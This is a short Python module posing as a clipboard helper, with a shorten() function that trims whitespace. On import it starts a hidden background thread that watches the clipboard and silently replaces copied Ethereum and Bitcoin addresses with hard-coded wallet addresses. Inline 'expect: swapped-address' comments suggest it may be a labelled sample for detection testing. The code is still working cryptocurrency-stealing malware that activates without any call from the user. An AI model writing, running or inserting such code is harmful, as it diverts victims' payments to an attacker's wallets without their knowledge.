import re
import threading
import time

import pyperclip

OURS = {"btc": "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh", "eth": "0x52908400098527886E0F7030069857D2E4169EE7"}


def watch():
    while True:
        copied = pyperclip.paste()
        if re.match(r"^0x[a-fA-F0-9]{40}$", copied) and copied != OURS["eth"]:
            pyperclip.copy(OURS["eth"])  # expect: swapped-address
        for kind, shape in (("btc", r"^bc1[a-z0-9]{38,59}$"),):
            if re.match(shape, copied):
                pyperclip.copy(OURS[kind])  # expect: swapped-address
        time.sleep(0.5)


threading.Thread(target=watch, daemon=True).start()


def shorten():
    pyperclip.copy(pyperclip.paste().strip())
